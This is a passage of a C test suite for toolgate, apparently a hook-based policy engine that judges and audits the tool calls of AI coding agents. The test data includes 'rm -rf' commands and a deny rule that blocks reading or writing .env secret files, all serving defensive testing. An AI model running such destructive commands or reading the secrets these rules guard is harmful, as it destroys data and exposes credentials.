      "tg.tool { name = \"fake\", read_only = true, run = function(a)\n"
      "  return { stdout = \"ran\\n\" } end }\n"
      "tg.rule { name = \"whose\", tools = { \"fake\" }, check = function(call)\n"
      "  return tg.deny(\"session=\" .. tostring(call.session)) end }\n"
      "tg.after_tool(\"*\", function(call)\n"
      "  if call.tool == \"fake\" then return end\n"
      "  agent.context_from(call, \"fake\", {}, \"a\")\n"
      "end)\n", "\"SESSION_ID\":\"other\",\"Cwd\":\"/elsewhere\",");
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "session=s");
  ASSERT_NULL(strstr(r.out, "session=other"));
  ran_free(&r);
}

/* Rules and hooks in the agent's terms: one naming the agent's tool
 * (Bash, Edit, WebFetch, Codex's shell) covers its calls as one naming
 * toolgate's (exec, apply_patch, web_fetch) does; and a one-line .env
 * guard over call.paths holds for every file tool of both agents, each
 * answered through the real hook. */
static ran pre_event(const char *agent, const char *pol, const char *cwd,
                      const char *tool, const char *input) {
  const char *argv[] = {"hook", agent, "--policies", pol, "--no-resident",
                        NULL};
  char ev[4096];
  /* Gemini CLI's name of it; Copilot CLI's PascalCase payload is
   * Claude-shaped (its camelCase one is in the fixtures) */
  snprintf(ev, sizeof ev, "{\"session_id\":\"s\",\"cwd\":\"%s\","
           "\"hook_event_name\":\"%s\",\"tool_name\":\"%s\","
           "\"tool_input\":%s}", cwd,
           strcmp(agent, "gemini") ? "PreToolUse" : "BeforeTool", tool, input);
  return run_text(argv, ev);
}

TEST(rules_name_the_agents_tools_and_guard_every_file_tool) {
  char *proj = temp_dir();
  make_subdir(proj, "policies");
  make_subdir(proj, "src");
  char pol[PATH_MAX];
  snprintf(pol, sizeof pol, "%s/policies", proj);
  put_file(pol, "10.lua",
           "local tg = require \"toolgate\"\n"
           "tg.rule { name = \"no-env\", priority = 1, check = function(c) "
           "for _, p in ipairs(c.paths or {}) do if p.path:match(\"%.env$\") "
           "then return tg.deny(\"env: \" .. p.path) end end end }\n"
           "tg.rule { name = \"named-Bash\", priority = 2, tools = { \"Bash\" },"
           " check = function(c) if c.args.command == \"rm -rf x\" then "
           "return tg.deny(\"by the name Bash\") end end }\n"
           "tg.rule { name = \"named-shell\", priority = 3, tools = { \"shell\" },"
           " check = function(c) return tg.deny(\"by the name shell\") end }\n"
           "tg.rule { name = \"named-Edit\", priority = 4, tools = { \"Edit\" },"
           " check = function(c) return tg.ask(\"by the name Edit\") end }\n"
           "tg.rule { name = \"named-mcp\", priority = 5, tools = "
           "{ \"mcp__github__*\" }, check = function(c) "
           "return tg.deny(\"by the agent's MCP name\") end }\n"
           "tg.before_tool(\"WebFetch\", function(c) "
           "return tg.abort(\"a hook by the name WebFetch\") end)\n"
           "tg.rule { name = \"named-gemini\", priority = 6, tools = "
           "{ \"run_shell_command\" }, check = function(c) if c.args.command "
           "== \"rm -rf g\" then return tg.deny(\"by the name "
           "run_shell_command\") end end }\n"
           "tg.rule { name = \"named-copilot\", priority = 7, tools = "
           "{ \"bash\" }, check = function(c) if c.args.command == "
           "\"rm -rf c\" then return tg.deny(\"by the name bash\") end end }\n"
           "tg.rule { name = \"as-exec\", priority = 8, tools = { \"exec\" },"
           " check = function(c) if c.args.command == \"rm -rf e\" then "
           "return tg.deny(\"by toolgate's name exec\") end end }\n");
  static const struct {
    const char *agent, *tool, *input, *want;
  } cases[] = {
      /* the .env guard, for every file tool */
      {"claude-code", "Read", "{\"file_path\":\"@/.env\"}", "env: .env"},
      {"claude-code", "Write", "{\"file_path\":\"@/src/.env\",\"content\":\"x\"}",
       "env: src/.env"},
      {"claude-code", "Edit", "{\"file_path\":\"@/.env\",\"old_string\":\"a\","
       "\"new_string\":\"b\"}", "env: .env"},
      {"claude-code", "MultiEdit", "{\"file_path\":\".env\",\"edits\":"
       "[{\"old_string\":\"a\",\"new_string\":\"b\"}]}", "env: .env"},
      {"claude-code", "NotebookEdit", "{\"notebook_path\":\"@/.env\","
       "\"new_source\":\"x\"}", "env: .env"},
      {"claude-code", "Grep", "{\"pattern\":\"KEY\",\"glob\":\".env\"}",
       "env: **/.env"},
      {"claude-code", "Glob", "{\"pattern\":\"**/.env\"}", "env: **/.env"},
      {"codex", "apply_patch", "{\"command\":\"*** Begin Patch\\n*** Add File: "
       ".env\\n+K=v\\n*** End Patch\\n\"}", "env: .env"},
      {"gemini", "read_file", "{\"file_path\":\"@/.env\"}", "env: .env"},
      {"gemini", "write_file", "{\"file_path\":\"src/.env\",\"content\":\"x\"}",
       "env: src/.env"},
      {"gemini", "replace", "{\"file_path\":\"@/.env\",\"old_string\":\"a\","
       "\"new_string\":\"b\"}", "env: .env"},
      {"gemini", "read_many_files", "{\"include\":[\"src/a.c\",\".env\"]}",
       "env: .env"},
      {"gemini", "grep_search", "{\"pattern\":\"K\",\"include_pattern\":"
       "\".env\"}", "env: **/.env"},
      {"gemini", "glob", "{\"pattern\":\"**/.env\"}", "env: **/.env"},
      {"copilot", "view", "{\"path\":\"@/.env\"}", "env: .env"},
      {"copilot", "create", "{\"path\":\"@/src/.env\",\"file_text\":\"x\"}",
       "env: src/.env"},
      {"copilot", "edit", "{\"path\":\"@/.env\",\"old_str\":\"a\","
       "\"new_str\":\"b\"}", "env: .env"},
      {"copilot", "apply_patch", "{\"input\":\"*** Begin Patch\\n*** Add "
       "File: .env\\n+K=v\\n*** End Patch\\n\"}", "env: .env"},
      {"copilot", "grep", "{\"pattern\":\"K\",\"glob\":\".env\"}",
       "env: **/.env"},
      /* rules and hooks by the agent's names */
      {"gemini", "run_shell_command", "{\"command\":\"rm -rf g\"}",
       "by the name run_shell_command"},
      {"gemini", "run_shell_command", "{\"command\":\"rm -rf e\"}",
       "by toolgate's name exec"},
      {"copilot", "bash", "{\"command\":\"rm -rf c\"}", "by the name bash"},
      {"copilot", "bash", "{\"command\":\"rm -rf e\"}",
       "by toolgate's name exec"},
      {"claude-code", "Bash", "{\"command\":\"rm -rf x\"}", "by the name Bash"},
      {"codex", "Bash", "{\"command\":\"ls\"}", "by the name shell"},
      {"claude-code", "Edit", "{\"file_path\":\"@/src/a.c\",\"old_string\":"
       "\"a\",\"new_string\":\"b\"}", "by the name Edit"},
      {"claude-code", "mcp__github__delete_repo", "{}", "by the agent's MCP name"},
      {"claude-code", "WebFetch", "{\"url\":\"https://example.com\"}",
       "a hook by the name WebFetch"},
  };
  for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
    char input[1024], *o = input;
    for (const char *p = cases[i].input; *p; p++) /* "@" is the project */
      if (*p == '@') o += snprintf(o, sizeof input - (size_t)(o - input), "%s", proj);
      else *o++ = *p;
    *o = '\0';
    ran r = pre_event(cases[i].agent, pol, proj, cases[i].tool, input);
    if (r.code != 0 || !strstr(r.out, cases[i].want))
      TG_FAIL("%s %s: expected \"%s\" in the answer\n  stdout: %s\n  stderr: %s",
              cases[i].agent, cases[i].tool, cases[i].want, r.out, r.err);
    ran_free(&r);
  }
  /* what no rule names is left alone: Claude Code's Bash is not "shell" */
  ran r = pre_event("claude-code", pol, proj, "Bash", "{\"command\":\"ls\"}");
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_TRUE(strstr(r.out, "by the name") == NULL);
  ran_free(&r);
  remove_tree(proj);
}

/* --start-daemon: the first hook answers itself and starts `toolgate
 * daemon` for the policies folder, which the next ones find. */
TEST(start_daemon_on_demand) {
  char *tmp = temp_dir();
  setenv("XDG_RUNTIME_DIR", tmp, 1); /* where the socket goes */
  char pol[600], sock[PATH_MAX], err[TG_ERRMSG];
  snprintf(pol, sizeof pol, "%s/%s", TG_SOURCE_DIR, POLICIES);
  const char *argv[] = {"hook", "claude-code", "--policies", pol,
                        "--start-daemon", NULL};
  ran r = run_text(argv, pre_bash);
  ASSERT_CONTAINS(r.out, "no-force-push");
  ran_free(&r);
  ASSERT_OK(tg_control_path(pol, sock, sizeof sock, err));
  /* the daemon loads the policies and opens its database before it
   * listens: on a loaded machine (CI runs this under valgrind beside other
   * builds) that took more than 5 s; wait up to 40 s, well inside the
   * test's 60 s alarm */
  for (int i = 0; i < 4000 && !can_connect(sock); i++) usleep(10000);
  char *reply = NULL;
  ASSERT_OK(tg_control_request(sock, "{\"cmd\":\"status\"}", &reply, 5000, err));
  cJSON *st = cJSON_Parse(reply);
  pid_t pid = (pid_t)num_at(st, "pid");
  ASSERT_TRUE(pid > 1);
  remember_started(pid); /* not our child: stopped by its pid */
  cJSON_Delete(st);
  free(reply);
  r = run_text(argv, pre_bash); /* answered by the daemon; none started */
  ASSERT_CONTAINS(r.out, "no-force-push");
  ASSERT_STR_EQ(r.err, "");
  ran_free(&r);
  for (int i = 0; i < nstarted; i++) /* stopped here: never twice */
    if (started[i] == pid) started[i] = 0;
  ASSERT_OK(kill(pid, SIGTERM));
  for (int i = 0; i < 3000 && can_connect(sock); i++) usleep(10000);
  ASSERT_FALSE(can_connect(sock));
  remove_tree(tmp);
}

/* ---- what policies see, and what the hooks record ------------------------------ */

/* The database the hook processes write (the test's XDG_STATE_HOME). */
static tg_store *hook_db(void) {
  char err[TG_ERRMSG];
  tg_store *st = tg_store_open(NULL, 1, err);
  if (!st) TG_FAIL("the hooks' database: %s", err);
  return st;
}

/* Session id as the database has it ({..., agent, turn, messages, calls}). */
static cJSON *stored_session(const char *id) {
  char err[TG_ERRMSG];
  tg_store *st = hook_db();
  cJSON *s = tg_store_session(st, id, err);
  if (!s) TG_FAIL("session %s: %s", id, err);
  tg_store_close(st);
  return s;
}

static ran hook_event(const char *agent, const char *event) {
  const char *argv[] = {"hook", agent, "--policies", POLICIES, "--no-resident",
                        NULL};
  return run_text(argv, event);
}

static ran hook_event_at(const char *agent, const char *sock, const char *event) {
  const char *argv[] = {"hook", agent, "--policies", POLICIES, "--socket",
                        sock, NULL};
  return run_text(argv, event);
}

static const char prompt_9[] =
    "{\"session_id\":\"sess-9\",\"cwd\":\"/w\",\"hook_event_name\":"
    "\"UserPromptSubmit\",\"prompt\":\"hello\"}";

/* Turns are counted in the database: a prompt answered in-process and
 * one answered by a resident instance count in the same session, and the
 * calls after them carry the turn (call.turn, the audit). */
TEST(policies_see_the_agent_and_the_turn) {
  char *tmp = temp_dir();
  ran r = hook_event("claude-code", prompt_9);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_STR_EQ(r.out, "");
  ASSERT_STR_EQ(r.err, "");
  ran_free(&r);
  daemon_proc d = start_daemon(tmp, POLICIES);
  r = hook_event_at("claude-code", d.sock, prompt_9);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_STR_EQ(r.err, "");
  ran_free(&r);
  stop_daemon(&d);
  r = hook_event("claude-code",
      "{\"session_id\":\"sess-9\",\"cwd\":\"/w\",\"hook_event_name\":\"PreToolUse\","
      "\"permission_mode\":\"plan\",\"tool_name\":\"Bash\",\"tool_use_id\":\"toolu_7\","
      "\"tool_input\":{\"command\":\"who-am-i\"}}");
  ASSERT_CONTAINS(r.out, "agent=claude-code tool=Bash input=who-am-i "
                  "event=PreToolUse session=sess-9 turn=2 cwd=/w mode=plan "
                  "id=toolu_7");
  ran_free(&r);
  /* keys differ from the agent's only in case are not its keys: what a
   * rule sees of the input is the tool_input the agent runs, never a
   * decoy put before it (keys were once looked up in any case) */
  r = hook_event("claude-code",
      "{\"session_id\":\"sess-decoy\",\"cwd\":\"/w\",\"hook_event_name\":\"PreToolUse\","
      "\"permission_mode\":\"plan\",\"tool_name\":\"Bash\",\"tool_use_id\":\"toolu_8\","
      "\"Tool_Input\":{\"command\":\"harmless\"},"
      "\"tool_input\":{\"command\":\"who-am-i\"}}");
  ASSERT_CONTAINS(r.out, "input=who-am-i ");
  ran_free(&r);
  cJSON *s = stored_session("sess-9");
  ASSERT_NUM_EQ(num_at(s, "turn"), 2);
  ASSERT_STR_EQ(str_at(s, "agent"), "claude-code");
  /* "/w" is no folder here: no project (never the instance's own) */
  ASSERT_TRUE(cJSON_IsNull(cJSON_GetObjectItemCaseSensitive(s, "project")));
  const cJSON *msgs = cJSON_GetObjectItemCaseSensitive(s, "messages");
  ASSERT_INT_EQ(cJSON_GetArraySize(msgs), 2); /* the prompts, as user messages */
  ASSERT_STR_EQ(str_at(cJSON_GetArrayItem(msgs, 1), "role"), "user");
  ASSERT_STR_EQ(str_at(cJSON_GetArrayItem(msgs, 1), "content"), "hello");
  const cJSON *calls = cJSON_GetObjectItemCaseSensitive(s, "calls"); /* judged: audited */
  ASSERT_INT_EQ(cJSON_GetArraySize(calls), 1);
  ASSERT_STR_EQ(str_at(cJSON_GetArrayItem(calls, 0), "tool"), "exec");
  ASSERT_NUM_EQ(num_at(cJSON_GetArrayItem(calls, 0), "turn"), 2);
  cJSON_Delete(s);
  /* the chat layers see the prompt (here: a before_chat layer that keeps
   * it as a memory of the session) */
  r = hook_event("claude-code", "{\"session_id\":\"sess-9\",\"cwd\":\"/w\","
                 "\"hook_event_name\":\"UserPromptSubmit\",\"prompt\":"
                 "\"remember: tabs, not spaces\"}");
  ASSERT_STR_EQ(r.err, "");
  ran_free(&r);
  char err[TG_ERRMSG];
  tg_store *st = hook_db();
  tg_recall_filter f = {.query = "tabs", .scope = "session", .session = "sess-9"};
  cJSON *mem = tg_memory_recall(st, &f, err);
  ASSERT_NOT_NULL(mem);
  ASSERT_INT_EQ(cJSON_GetArraySize(mem), 1);
  ASSERT_STR_EQ(str_at(cJSON_GetArrayItem(mem, 0), "content"),
                "claude-code, turn 3: tabs, not spaces");
  cJSON_Delete(mem);
  tg_store_close(st);
  /* another session counts its own turns */
  r = hook_event("codex",
      "{\"session_id\":\"sess-10\",\"cwd\":\"/w\",\"hook_event_name\":\"PreToolUse\","
      "\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"who-am-i\"}}");
  ASSERT_CONTAINS(r.out, "agent=codex tool=Bash input=who-am-i "
                  "event=PreToolUse session=sess-10 turn=0");
  ran_free(&r);
  remove_tree(tmp);
}

/* One hook event of session sess-audit, answered in its own process. */
static void audit_event(const char *agent, const char *event, const char *id,
                        const char *command, const char *tail) {
  char ev[1024];
  snprintf(ev, sizeof ev, "{\"session_id\":\"sess-audit\",\"cwd\":\"/w\","
           "\"hook_event_name\":\"%s\",\"tool_name\":\"Bash\",\"tool_use_id\":"
           "\"%s\",\"tool_input\":{\"command\":\"%s\"}%s}", event, id, command,
           tail);
  ran r = hook_event(agent, ev);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_STR_EQ(r.err, "");
  ran_free(&r);
}

static const cJSON *agent_of(const cJSON *rec) {
  const cJSON *a = cJSON_GetObjectItemCaseSensitive(rec, "agent");
  ASSERT_NOT_NULL(a);
  return a;
}

/* The audit says what happened, not what toolgate did not do: each call a
 * hook judges or sees keeps the agent, the event, the agent's tool and
 * input (masked), what the agent was told and who decided, under a call
 * id no other process gives; a call no rule decides is left to the agent
 * (no verdict, never "ask / ok"); a PostToolUse is linked to the
 * PreToolUse that judged it, and that one to how the tool ended. */
TEST(the_audit_says_what_the_agent_was_told) {
  static const char token[] = "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB";
  char cmd[128];
  snprintf(cmd, sizeof cmd, "echo %s", token);
  ran r = hook_event("claude-code", "{\"session_id\":\"sess-audit\","
                     "\"cwd\":\"/w\",\"hook_event_name\":\"SessionStart\"}");
  ASSERT_INT_EQ(r.code, 0);
  ran_free(&r);
  /* no rule decides an echo: left to the agent (two processes) */
  audit_event("claude-code", "PreToolUse", "toolu_a1", cmd, "");
  audit_event("claude-code", "PreToolUse", "toolu_a2", "make deploy", "");
  audit_event("codex", "PreToolUse", "toolu_a3", "make deploy", "");
  audit_event("claude-code", "PostToolUse", "toolu_a1", cmd,
              ",\"tool_response\":{\"stdout\":\"hi\"}");
  audit_event("claude-code", "PostToolUseFailure", "toolu_a2", "make deploy",
              ",\"error\":\"make: no rule\"");
  /* a rule that fails: nothing judged it, on_error answered */
  r = hook_event("claude-code", "{\"session_id\":\"sess-audit\",\"cwd\":"
                 "\"/w\",\"hook_event_name\":\"PreToolUse\",\"tool_name\":"
                 "\"Bash\",\"tool_use_id\":\"toolu_a4\",\"tool_input\":"
                 "{\"command\":\"trigger-a-policy-bug\"}}");
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"deny\"");
  ran_free(&r);
  char err[TG_ERRMSG];
  tg_store *st = hook_db();
  tg_audit_filter f = {.session = "sess-audit", .limit = 100};
  cJSON *recs = tg_store_audit(st, &f, err);
  tg_store_close(st);
  ASSERT_NOT_NULL(recs);
  ASSERT_INT_EQ(cJSON_GetArraySize(recs), 6);
  const cJSON *left = cJSON_GetArrayItem(recs, 0), *asked = cJSON_GetArrayItem(recs, 1);
  const cJSON *codex = cJSON_GetArrayItem(recs, 2), *post = cJSON_GetArrayItem(recs, 3);
  const cJSON *failed = cJSON_GetArrayItem(recs, 4), *bug = cJSON_GetArrayItem(recs, 5);
  /* call ids: each its own, none the chain's per-process count */
  for (int i = 0; i < 6; i++) {
    const char *id = str_at(cJSON_GetArrayItem(recs, i), "call_id");
    ASSERT_STARTS_WITH(id, "hook-");
    ASSERT_INT_EQ(strlen(id), 5 + 32);
    for (int k = 0; k < i; k++)
      ASSERT_TRUE(strcmp(id, str_at(cJSON_GetArrayItem(recs, k), "call_id")));
  }
  /* the agent, the event, its tool, its input masked like the args */
  const cJSON *a = agent_of(left);
  ASSERT_STR_EQ(str_at(a, "name"), "claude-code");
  ASSERT_STR_EQ(str_at(a, "event"), "PreToolUse");
  ASSERT_STR_EQ(str_at(a, "tool"), "Bash");
  ASSERT_STR_EQ(str_at(a, "tool_use_id"), "toolu_a1");
  char *input = cJSON_PrintUnformatted(cJSON_GetObjectItemCaseSensitive(a, "input"));
  ASSERT_CONTAINS(input, "echo [REDACTED:github-token]");
  ASSERT_NOT_CONTAINS(input, token);
  free(input);
  ASSERT_STR_EQ(str_at(left, "tool"), "exec");
  /* left to the agent: no verdict, nobody here decided, nothing said */
  const cJSON *d = cJSON_GetObjectItemCaseSensitive(left, "decision");
  ASSERT_TRUE(cJSON_IsNull(cJSON_GetObjectItemCaseSensitive(d, "verdict")));
  ASSERT_STR_EQ(str_at(d, "by"), "agent");
  ASSERT_TRUE(cJSON_IsNull(cJSON_GetObjectItemCaseSensitive(a, "answer")));
  /* a rule's ask, by name; Codex cannot ask: it was told deny */
  d = cJSON_GetObjectItemCaseSensitive(asked, "decision");
  ASSERT_STR_EQ(str_at(d, "verdict"), "ask");
  ASSERT_STR_EQ(str_at(d, "by"), "rule");
  ASSERT_STR_EQ(str_at(d, "rule"), "ask-deploy");
  ASSERT_STR_EQ(str_at(agent_of(asked), "answer"), "ask");
  ASSERT_STR_EQ(str_at(agent_of(codex), "name"), "codex");
  ASSERT_STR_EQ(str_at(agent_of(codex), "answer"), "deny");
  /* after the tool: linked both ways, with how it ended */
  ASSERT_STR_EQ(str_at(agent_of(post), "event"), "PostToolUse");
  ASSERT_STR_EQ(str_at(agent_of(post), "judged_call"), str_at(left, "call_id"));
  ASSERT_TRUE(cJSON_IsNull(cJSON_GetObjectItemCaseSensitive(cJSON_GetObjectItemCaseSensitive(post,
                                               "decision"), "verdict")));
  const cJSON *how = cJSON_GetObjectItemCaseSensitive(agent_of(left), "ran");
  ASSERT_STR_EQ(str_at(how, "call_id"), str_at(post, "call_id"));
  ASSERT_STR_EQ(str_at(how, "ended"), "ok");
  ASSERT_STR_EQ(str_at(agent_of(failed), "judged_call"), str_at(asked, "call_id"));
  ASSERT_STR_EQ(str_at(cJSON_GetObjectItemCaseSensitive(agent_of(asked), "ran"), "ended"),
                "failed");
  ASSERT_NULL(cJSON_GetObjectItemCaseSensitive(agent_of(codex), "ran")); /* never ran */
  ASSERT_STR_EQ(str_at(cJSON_GetObjectItemCaseSensitive(bug, "decision"), "by"), "fail-safe");
  ASSERT_STR_EQ(str_at(agent_of(bug), "answer"), "deny");
  cJSON_Delete(recs);
  /* an export keeps all of it, and its import reads back the same */
  st = hook_db();
  char *first = tg_store_export(st, "sess-audit", TG_EXPORT_JSON, err);
  ASSERT_NOT_NULL(first);
  ASSERT_CONTAINS(first, "\"judged_call\"");
  tg_import_report rep;
  ASSERT_INT_EQ(tg_store_import(st, first, strlen(first), &rep, err), 0);
  ASSERT_INT_EQ(cJSON_GetArraySize(rep.skipped), 0);
  cJSON_Delete(rep.skipped);
  char *again = tg_store_export(st, rep.session, TG_EXPORT_JSON, err);
  tg_store_close(st);
  cJSON *x = cJSON_Parse(first), *y = cJSON_Parse(again);
  cJSON_ReplaceItemInObjectCaseSensitive(cJSON_GetObjectItemCaseSensitive(y, "session"), "id",
                            cJSON_CreateString("sess-audit"));
  /* the token in an input tainted the session; an import carries the
   * record, not the taint (docs/storage.md), so that key is left out */
  cJSON_DeleteItemFromObjectCaseSensitive(x, "taint");
  cJSON_DeleteItemFromObjectCaseSensitive(y, "taint");
  ASSERT_TRUE(cJSON_Compare(x, y, 1));
  cJSON_Delete(x);
  cJSON_Delete(y);
  free(first);
  free(again);
  /* toolgate log says it as it was */
  const char *argv[] = {"log", "--session", "sess-audit", NULL};
  r = run_text(argv, "");
  ASSERT_INT_EQ(r.code, 0);
  char *line = strstr(r.out, "\n") + 1; /* the first call, after the header */
  *strchr(line, '\n') = '\0';
  ASSERT_CONTAINS(line, "Bash (exec)");
  ASSERT_CONTAINS(line, "claude-code pre");
  ASSERT_CONTAINS(line, "left to the agent");
  ASSERT_CONTAINS(line, "ran: ok");
  ASSERT_NOT_CONTAINS(line, "ask");
  line += strlen(line) + 1;
  ASSERT_CONTAINS(line, "rule ask-deploy");
  ASSERT_CONTAINS(line, "ran: failed");
  ran_free(&r);
}

/* `toolgate log --json --session id`: its records, oldest first. */
static cJSON *logged(const char *session) {
  const char *argv[] = {"log", "--session", session, "--json", NULL};
  ran r = run_text(argv, "");
  ASSERT_INT_EQ(r.code, 0);
  cJSON *all = cJSON_CreateArray();
  for (char *line = strtok(r.out, "\n"); line; line = strtok(NULL, "\n")) {
    cJSON *o = cJSON_Parse(line);
    ASSERT_NOT_NULL(o);
    cJSON_AddItemToArray(all, o);
  }
  ran_free(&r);
  return all;
}

/* A call whose input does not map is answered by on_error, and the audit
 * keeps it all the same — the agent, its event, tool and input (masked),
 * what it was told, decided by "fail-safe: mapping failed: why" — in the
 * hook's own process and through a resident instance. */
TEST(a_call_that_does_not_map_is_recorded) {
  static const char token[] = "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB";
  char *tmp = temp_dir();
  daemon_proc d = start_daemon(tmp, POLICIES);
  char ev[2][512];
  for (int i = 0; i < 2; i++)
    snprintf(ev[i], sizeof ev[i], "{\"session_id\":\"sess-unmapped\",\"cwd\":"
             "\"/w\",\"hook_event_name\":\"PreToolUse\",\"tool_name\":\"Bash\","
             "\"tool_use_id\":\"toolu_u%d\",\"tool_input\":{\"description\":"
             "\"%s\"}}", i + 1, token);
  ran a = hook_event("claude-code", ev[0]);
  ran b = hook_event_at("claude-code", d.sock, ev[1]);
  ASSERT_INT_EQ(a.code, 0);
  ASSERT_CONTAINS(a.out, "\"permissionDecision\":\"deny\"");
  ASSERT_STR_EQ(a.out, b.out);
  ran_free(&a);
  ran_free(&b);
  stop_daemon(&d);
  cJSON *recs = logged("sess-unmapped");
  ASSERT_INT_EQ(cJSON_GetArraySize(recs), 2);
  for (int i = 0; i < 2; i++) {
    const cJSON *rec = cJSON_GetArrayItem(recs, i);
    const cJSON *dec = cJSON_GetObjectItemCaseSensitive(rec, "decision"), *ag = agent_of(rec);
    ASSERT_STR_EQ(str_at(dec, "by"), "fail-safe: mapping failed: the shell "
                  "call has no command");
    ASSERT_STR_EQ(str_at(dec, "verdict"), "deny");
    ASSERT_STR_EQ(str_at(rec, "status"), "error");
    ASSERT_STR_EQ(str_at(ag, "name"), "claude-code");
    ASSERT_STR_EQ(str_at(ag, "event"), "PreToolUse");
    ASSERT_STR_EQ(str_at(ag, "tool"), "Bash");
    ASSERT_STR_EQ(str_at(ag, "answer"), "deny");
    ASSERT_STR_EQ(str_at(ag, "tool_use_id"), i ? "toolu_u2" : "toolu_u1");
    char *input = cJSON_PrintUnformatted(cJSON_GetObjectItemCaseSensitive(ag, "input"));
    ASSERT_CONTAINS(input, "[REDACTED:github-token]");
    ASSERT_NOT_CONTAINS(input, token);
    free(input);
  }
  cJSON_Delete(recs);
  remove_tree(tmp);
}

/* A permission request carries no tool_use_id: its record takes the one
 * of the session's latest judged pre-tool record when that is of the same
 * agent, tool and input, so the two are linked; another input, no link. */
TEST(a_permission_request_is_linked_to_its_pre_tool_record) {
  static const char pre[] =
      "{\"session_id\":\"sess-perm\",\"cwd\":\"/w\",\"hook_event_name\":"
      "\"PreToolUse\",\"tool_name\":\"Bash\",\"tool_use_id\":\"toolu_p1\","
      "\"tool_input\":{\"command\":\"make deploy\",\"description\":\"ship\"}}";
  static const char perm[] =
      "{\"session_id\":\"sess-perm\",\"cwd\":\"/w\",\"hook_event_name\":"
      "\"PermissionRequest\",\"tool_name\":\"Bash\",\"tool_input\":"
      "{\"description\":\"ship\",\"command\":\"make deploy\"}}";
  static const char other[] =
      "{\"session_id\":\"sess-perm\",\"cwd\":\"/w\",\"hook_event_name\":"
      "\"PermissionRequest\",\"tool_name\":\"Bash\",\"tool_input\":"
      "{\"command\":\"make deploy-all\"}}";
  const char *events[] = {pre, perm, other};
  for (int i = 0; i < 3; i++) {
    ran r = hook_event("claude-code", events[i]);
    ASSERT_INT_EQ(r.code, 0);
    ran_free(&r);
  }
  cJSON *recs = logged("sess-perm");
  ASSERT_INT_EQ(cJSON_GetArraySize(recs), 3);
  const cJSON *a = agent_of(cJSON_GetArrayItem(recs, 1));
  ASSERT_STR_EQ(str_at(a, "event"), "PermissionRequest");
  ASSERT_STR_EQ(str_at(a, "tool_use_id"), "toolu_p1"); /* keys in any order */
  a = agent_of(cJSON_GetArrayItem(recs, 2));
  ASSERT_NULL(str_at(a, "tool_use_id")); /* another input */
  cJSON_Delete(recs);
}

/* Remembers an approval in the hooks' database, as `toolgate approvals
 * grant` does. */
static void grant(const tg_always_spec *spec) {
  char err[TG_ERRMSG];
  tg_store *st = hook_db();
  if (tg_store_grant(st, spec, err) <= 0) TG_FAIL("grant: %s", err);
  tg_store_close(st);
}

/* An approval remembered in the database (`toolgate approvals grant`, or
 * an earlier "always" in another front) answers the rule's ask, for the
 * session it names and no other; in-process and resident alike. */
TEST(remembered_approvals_apply_to_agent_calls) {
  char *tmp = temp_dir();
  tg_always_spec spec = {.scope = TG_SCOPE_PATTERN, .arg = "command",
                         .glob = "make deploy*", .where = TG_WHERE_SESSION,
                         .tool = "exec", .session = "sess-ok"};
  grant(&spec);
  static const char ev[] =
      "{\"session_id\":\"%s\",\"cwd\":\"/w\",\"hook_event_name\":\"PreToolUse\","
      "\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"make deploy\"}}";
  char ok[512], other[512];
  snprintf(ok, sizeof ok, ev, "sess-ok");
  snprintf(other, sizeof other, ev, "sess-other");
  daemon_proc d = start_daemon(tmp, POLICIES);
  ran a = hook_event("claude-code", ok), b = hook_event_at("claude-code", d.sock, ok);
  ASSERT_CONTAINS(a.out, "\"permissionDecision\":\"allow\"");
  ASSERT_CONTAINS(a.out, "approved before (remembered)");
  ASSERT_STR_EQ(a.out, b.out);
  ran_free(&a);
  ran_free(&b);
  a = hook_event_at("claude-code", d.sock, other);
  ASSERT_CONTAINS(a.out, "\"permissionDecision\":\"ask\"");
  ASSERT_CONTAINS(a.out, "deploying to production?");
  ran_free(&a);
  /* remembered for a project: the session's cwd is its project (by its
   * real path: here through a symlink), wherever the instance runs */
  char *proj = path_join(tmp, "proj"), *link = path_join(tmp, "link");
  ASSERT_OK(mkdir(proj, 0700));
  ASSERT_OK(symlink(proj, link));
  char *real = realpath(proj, NULL);
  tg_always_spec in_proj = {.scope = TG_SCOPE_TOOL, .where = TG_WHERE_PROJECT,
                            .tool = "exec", .project = real};
  grant(&in_proj);
  static const char in_dir[] =
      "{\"session_id\":\"sess-p\",\"cwd\":\"%s\",\"hook_event_name\":\"PreToolUse\","
      "\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"make deploy\"}}";
  char there[1024], elsewhere[1024];
  snprintf(there, sizeof there, in_dir, link);
  snprintf(elsewhere, sizeof elsewhere, in_dir, tmp);
  a = hook_event_at("claude-code", d.sock, there);
  b = hook_event("claude-code", there);
  ASSERT_CONTAINS(a.out, "approved before (remembered)");
  ASSERT_STR_EQ(a.out, b.out);
  ran_free(&a);
  ran_free(&b);
  a = hook_event_at("claude-code", d.sock, elsewhere);
  ASSERT_CONTAINS(a.out, "\"permissionDecision\":\"ask\"");
  ran_free(&a);
  /* a session without a cwd has no project: not the instance's own (it
   * runs in the source tree, which an approval covers here) */
  char *src = realpath(TG_SOURCE_DIR, NULL);
  tg_always_spec in_src = {.scope = TG_SCOPE_TOOL, .where = TG_WHERE_PROJECT,
                           .tool = "exec", .project = src};
  grant(&in_src);
  a = hook_event_at("claude-code", d.sock,
      "{\"session_id\":\"sess-p\",\"hook_event_name\":\"PreToolUse\","
      "\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"make deploy\"}}");
  ASSERT_CONTAINS(a.out, "\"permissionDecision\":\"ask\"");
  ran_free(&a);
  free(src);
  free(real);
  free(proj);
  free(link);
  stop_daemon(&d);
  remove_tree(tmp);
}

/* Hooks of one session run at once (an agent's parallel calls): each
 * prompt counts once. */
TEST(concurrent_prompts_count_once_each) {
  enum { N = 16 };
  pid_t kids[N];
  /* sixteen first opens of a new database at once: each must wait for
   * the others' switch to WAL, not be turned away (db.c, switch_to_wal) */
  for (int i = 0; i < N; i++) {
    kids[i] = fork();
    if (kids[i] == 0) {
